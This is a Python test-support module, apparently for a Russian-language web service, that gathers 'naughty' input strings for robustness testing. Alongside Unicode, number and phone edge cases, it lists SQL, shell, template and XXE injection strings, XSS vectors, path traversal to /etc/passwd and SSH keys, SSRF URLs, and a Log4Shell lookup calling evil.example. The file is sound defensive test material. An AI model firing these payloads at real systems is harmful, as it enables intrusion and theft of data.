"""Strings that break programs which don't expect them: the Big List, and our own by what they try."""

import json
import re

from tests.support.project import NPM

BIG_LIST: list[str] = json.loads((NPM / "big-list-of-naughty-strings/blns.json").read_text(encoding="utf-8"))
"""Max Woolf's, which knows nothing of Russian numbers, of our templates and of our store."""

EMPTY = ("", " ", "\t", "\u00a0", "\u200b", "\ufeff", "\u2028\u2029", "\u3000" * 20, "\u115f\u1160\u3164")

WORDS_OF_PROGRAMS = (
    *("null", "NULL", "None", "nil", "undefined", "NaN", "true", "false", "on", "[]", "[object Object]"),
    *("__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "self", "CON", "NUL", "LPT1"),
    *("step", "learner", "done", "restart", "wait"),
)

NUMBERS = (
    *("0", "-0", "-1", "1.5", "1,5", "1/0", "1e400", "-1e-400", "0x1F", "0b1", "0o17", "08", "1_000", "+5", "--5"),
    *("Infinity", "-Infinity", "INF", "2147483648", "-2147483649", "9223372036854775808", "99999999999999999999"),
    *(
        "9" * 400,
        "0" * 400 + "1",
        "1." + "0" * 300,
        "1'000",
        "1 000",
        "1\u00a0000\u00a0000",
        "0.0000000001",
        "١٢٣٤٥٦",
        "१२३४५६",
    ),
    *("１２３４５６", "①②③④⑤⑥", "½", "²³", "Ⅷ", "一二三", "𝟏𝟐𝟑𝟒𝟓𝟔", "12345６", "123456\u200b", "1\u03012\u03013"),
)

PHONES = (
    *("+79161112233", "+7 (916) 111-22-33", "89161112233", "tel:+79070000001", "79070000001;ext=1", "+7+9070000001"),
    *(
        "79070000001\u202e",
        "７９０７００００００１",
        "7907000000l",
        "7907000000О",
        "++79070000001",
        "79070000001,79070000002",
    ),
    *("+7907000000100000", "00079070000001", "+1 202 555 0100", "112", "*100#", "*105*79070000001#"),
)

ADDRESSES = (
    *("a@b", "@", "a@@b.example", "a@b.example@c.ru", '"a b"@mail.example', "a@[127.0.0.1]", "a@mail.example\u202e"),
    *("а@mail.example", "a@mаil.example", "a@mail.example.", "a@.example", "<a@mail.example>", "a@mail.example,b@c.ru"),
    *("x" * 300 + "@mail.ru", "a@" + "b." * 150 + "ru", "a" * 490 + "!", "mailto:a@mail.ru?bcc=b@c.ru"),
    *("https://login.mts.ru.evil.example", "//login.mts.ru", "//login.mts.ru@evil.example", "javascript:alert(1)"),
    *(
        "http://127.0.0.1/",
        "http://[::1]/",
        "http://169.254.169.254/latest/",
        "file:///etc/passwd",
        "gopher://a",
        "xn--a",
    ),
)

MARKUP = (
    *(
        "<script>alert(1)</script>",
        "<ScRiPt>alert(2)</sCrIpT>",
        "<img src=x onerror=alert(3)>",
        "<svg/onload=alert(4)>",
    ),
    *(
        '"><script>alert(5)</script>',
        "'><script>alert(6)</script>",
        '" onfocus="alert(7)" autofocus="',
        "' onclick='a()",
    ),
    *("</textarea><b>", "</title></script><b>", "<!--", "-->", "<![CDATA[x]]>", "]]>", "<?php echo 8 ?>", "<% 9 %>"),
    *(
        "<iframe srcdoc='&lt;p&gt;'>",
        "<a href='javascript:x()'>y</a>",
        "<base href=//evil.example>",
        "<form action=//e>",
    ),
    *(
        "<meta http-equiv=refresh content=0>",
        "<style>*{display:none}</style>",
        "<math><mi>",
        "&lt;b&gt;",
        "&#60;b&#62;",
    ),
    *(
        "&amp;amp;",
        "&nbsp;",
        "<b",
        "<",
        ">",
        "&",
        '"',
        "'",
        "`",
        "<\u2028script>",
        "＜script＞",
        "<sc\u200bript>",
        "\\x3cb\\x3e",
    ),
    *('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><c>&b;</c>', "<xml/>", "[link](javascript:x)", "**b**"),
)

TEMPLATES = (
    *(
        "{{ 7 * 7 }}",
        "{% include 'form.html' %}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[title]]",
        "[[address]]",
    ),
    *(
        "{code}",
        "{wrong_code}",
        "{link}",
        "{0}",
        "{}",
        "{code.__class__}",
        "{0.__init__.__globals__}",
        "{",
        "}",
        "{{",
        "}}",
    ),
    *("%s%s%s%n", "%d", "%(code)s", "%x" * 50, "$code", "$(id)", "`id`", "<!-- widget -->", "{{ config.items() }}"),
)

INJECTIONS = (
    *(
        "' OR 1=1 --",
        '" OR ""="',
        "'; DROP TABLE runs; --",
        "1; SELECT sleep(10)",
        "admin'--",
        "\\'",
        "%27",
        "') OR ('1",
    ),
    *("; cat /etc/passwd", "| id", "&& id", "|| id", "$(touch /tmp/x)", "> /tmp/x", "../../../etc/passwd", "..\\..\\x"),
    *(
        "%2e%2e%2f",
        "/dev/random",
        "~/.ssh/id_rsa",
        "*)(uid=*))(|(uid=*",
        "{'$gt': ''}",
        '{"$ne": null}',
        "\\u0000",
        "%00",
    ),
    *(
        "${jndi:ldap://evil.example/a}",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+1+1",
        "eval redis.call('FLUSHALL')",
        "AUTH x",
    ),
    *("__import__('os').system('id')", 'O:8:"stdClass":0:{}', "gASVAAAAAAAAAC4=", "rO0ABXNy", "!!python/object:x {}"),
    *("a=b&c=d", "a;b", "a%26b%3Dc", "x&step=done", "a,b", "a\\", "\\\\server\\share", "#fragment", "?query"),
)

CONTROL = (
    *("\x00", "a\x00b", "\x01\x02\x03", "\x07", "\x08", "\x1b[31mred", "\x7f", "\r\nSet-Cookie: a=b", "a\nb", "a\rb"),
    *("\x0b", "\x0c", "\x1f", "\r\n\r\n<html>"),
)
"""What no one-line field can send."""

_CONTROL = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")

LETTERS = (
    *(
        "Ё" * 100,
        "ёЁйЙ",
        "и\u0306",
        "Пароль",
        "пАРОЛЬ",
        "Привет, мир!",
        "«ёлочки» — и тире",
        "田中さん",
        "部落格",
        "社會科學院",
    ),
    *(
        "사회과학원",
        "العربية",
        "\u202eatad",
        "\u2066a\u2069",
        "שָׁלוֹם",
        "ไทย",
        "தமிழ்",
        "Ω≈ç√∫˜µ≤",
        "ÅÍÎÏ˝ÓÔ",
        "ẞß",
        "İıIi",
        "ﬁﬀ",
        "ŉ",
    ),
    *(
        "ﷺ" * 50,
        "ﷲ",
        "\u0344" * 100,
        "Z\u0335\u0321\u0328a\u0336\u0327l\u0334g\u0338o" * 20,
        "\u0301" * 100,
        "e\u0301" * 100,
    ),
    *(
        "😀",
        "👩‍👩‍👧‍👦",
        "🏳️‍🌈",
        "🇷🇺🇺",
        "👍🏿",
        "\U0001f9d1\u200d" * 50,
        "𝕳𝖊𝖑𝖑𝖔",
        "ʇxǝʇ",
        "Ｆｕｌｌ",
        "\ue000",
        "\uffff",
        "\ufffe",
        "\U0010ffff",
    ),
    *(
        "\u00ad" * 50,
        "\u180e",
        "\u2060",
        "\ufff9x\ufffay\ufffb",
        "\U000e0041\U000e0042",
        "ａ\u3099",
        "ﾊﾟ",
        "Ǆǅǆ",
        "\u1e9b\u0323",
    ),
    *("a" * 500, "\U0001f600" * 250, "ы" * 500),
)

NAUGHTY = (
    *EMPTY,
    *WORDS_OF_PROGRAMS,
    *NUMBERS,
    *PHONES,
    *ADDRESSES,
    *MARKUP,
    *TEMPLATES,
    *INJECTIONS,
    *CONTROL,
    *LETTERS,
    *BIG_LIST,
)


def has_control(text: str) -> bool:
    """Whether a one-line field could not send it: everything that controls a terminal or a protocol, but the tab."""
    return bool(_CONTROL.search(text))
